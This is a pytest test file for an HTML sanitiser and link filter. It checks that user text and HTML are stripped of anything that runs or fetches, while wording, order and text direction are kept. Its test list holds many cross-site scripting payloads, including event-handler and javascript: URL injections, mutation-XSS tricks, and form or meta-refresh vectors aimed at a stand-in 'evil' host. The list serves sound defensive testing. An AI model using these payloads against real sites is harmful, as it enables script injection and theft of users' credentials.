"""Foreign words and HTML: what is shown is what was said, and nothing acts (B01, B02, B05)."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from hypothesis import given
from hypothesis import strategies as st

from huitou.lib.sanitise import html, links

ALLOWED = (
    "a abbr b blockquote br caption code dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s small"
    " span strong sub sup table tbody td tfoot th thead tr u ul bdi"
)
EVIL = [
    "<script>alert(1)</script>",
    "<img src=http://canary/x.png>",
    "<img src=cid:1 onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<base href=http://evil/>",
    "<meta http-equiv=refresh content='0;url=http://evil/'>",
    "<form action=http://evil/><input name=password><button formaction=http://evil/>go</button></form>",
    "<object data=http://evil/></object><embed src=http://evil/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<div style='background:url(http://canary/)'>x</div>",
    "<style>@import 'http://canary/';</style>",
    "<link rel=stylesheet href=http://canary/>",
    "<video poster=http://canary/><source srcset=http://canary/></video>",
    "<table background=http://canary/><td background=http://canary/>x</table>",
    "<p id=location name=cookie class=modal>x</p>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='http://x' ping='http://canary/' target=_blank onclick=alert(1)>x</a>",
]


class Seen(HTMLParser):
    """What a browser would find."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def check_harmless(text: str) -> None:
    for tag, attributes in Seen(text).tags:
        assert tag in ALLOWED.split()
        assert set(attributes) <= {"href", "rel", "target", "colspan", "rowspan", "dir", "lang"}
        assert re.match(r"(https?|mailto|tel):|$", attributes.get("href") or "")


@pytest.mark.parametrize("evil", EVIL)
def test_html_keeps_no_act_and_no_fetch(evil: str) -> None:
    cleaned = html(f"<p>before</p>{evil}<p>after</p>")
    check_harmless(cleaned)
    assert html(cleaned) == cleaned
    assert cleaned.startswith("<p>before</p>")


@pytest.mark.parametrize("evil", EVIL)
def test_words_are_shown_as_they_are(evil: str) -> None:
    shown = links(evil)
    assert {tag for tag, _ in Seen(shown).tags} <= {"bdi", "a"}
    check_harmless(shown)


def test_html_keeps_words_order_and_links() -> None:
    mail = (
        "<h1>你好</h1><p>第一段<br>second <b>bold</b> <a href='https://example.com/a?b=1'>here</a></p><ul><li>one</ul>"
    )
    assert html(mail) == (
        "<h1>你好</h1><p>第一段<br>second <b>bold</b> "
        '<a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">here</a></p><ul><li>one</li></ul>'
    )


def test_depth_and_length_do_no_harm() -> None:
    check_harmless(html("<div>" * 20_000 + "deep"))
    assert len(html("x" * 5_000_000)) == 1_000_000


@pytest.mark.parametrize(
    ("words", "address"),
    [
        ("看http://example.com看", "http://example.com"),
        ("看（https://example.com/a）。", "https://example.com/a"),
        ("see https://example.com/a_(b).", "https://example.com/a_(b)"),
        ("(see https://example.com/a)", "https://example.com/a"),
        ("HTTPS://EXAMPLE.COM/?q=1&r=2!", "HTTPS://EXAMPLE.COM/?q=1&amp;r=2"),
    ],
)
def test_an_address_ends_where_the_sentence_goes_on(words: str, address: str) -> None:
    assert f'<a href="{address}" rel="noopener noreferrer nofollow" target="_blank">{address}</a>' in links(words)


@pytest.mark.parametrize(
    "words",
    ["javascript:alert(1)", "http://", "https://bank.example@evil.example/", "ftp://example.com", "www.example.com"],
)
def test_what_is_no_plain_web_address_is_no_link(words: str) -> None:
    assert links(words) == f"<bdi>{words}</bdi>"


def test_lines_stay_lines_and_each_keeps_its_direction_to_itself() -> None:
    assert links("one\nשתיים\n<3") == "<bdi>one</bdi><br>\n<bdi>שתיים</bdi><br>\n<bdi>&lt;3</bdi>"


def test_templates_know_the_filter() -> None:
    assert Template("{{ words|links }}").render(Context({"words": "{{ 7*7 }} <b>"})) == "<bdi>{{ 7*7 }} &lt;b&gt;</bdi>"


@given(st.text(st.characters(exclude_characters="\r", exclude_categories=["Cs"])))
def test_any_words_come_out_whole(words: str) -> None:
    shown = links(words)
    assert unescape(re.sub(r"<[^>]*>", "", shown)) == words
    check_harmless(shown)
